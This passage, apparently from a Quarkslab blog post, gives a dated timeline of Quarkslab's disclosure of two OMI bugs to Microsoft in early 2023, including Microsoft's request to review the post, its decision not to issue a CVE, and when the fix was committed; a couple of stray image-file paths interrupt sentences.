  • 2023-01-24 Quarkslab replied that it had no concerns with the timeline and that with regards to disclosure, a blog post may be published in March but it wasn't decided yet.
  • 2023-01-25 Microsoft asked if Quarkslab could share the blog post because they'd like to review it.
  • 2023-02-28 Microsoft asked if Quarkslab had made a decision about publishing a blog post and to share it with them for review.
  • 2023-03-03 Quarkslab replied that it would publish a blog post with a general description of OMI and disclosing the two bugs around March 16th or during the week of March 20th. The draft would be shared by the end of the week.
  • 2023-03-08 Microsoft noted that the bugs had been fixed and asked Quarkslab to share the draft blog post when ready.
  • 2023-03-14 Quarkslab sent a draft version of the blog post and asked if the issued had been assigned CVE IDs and if Microsoft planned to issue a bulletin or security advisory.
  • 2023-03-17 Microsoft replied with a set of suggested edits to the blog post.
  • 2023-03-17 Quarkslab indicated that it reviewed and considered Microsoft's suggestions but clarified that the draft blog post was provided as a courtesy not as a request nor an offer for aneditorial review. Asked when were the fixes issued, what were the assigned CVE IDs and for any references to a security bulletin or other public communication about them.
  • 2023-03-21 Microsoft said that it was determined that a CVE would not be released for the issue as the case was of Moderate severity and the risk not high.
  • 2023-03-28 Upon inspection of the OMI source code repository Quarkslab determined that a fix was committed on February 16th.
  • 2023-03-31 This blog post is published.

If you would like to learn more about our security audits and explore how we canhelp you, get in touch with us!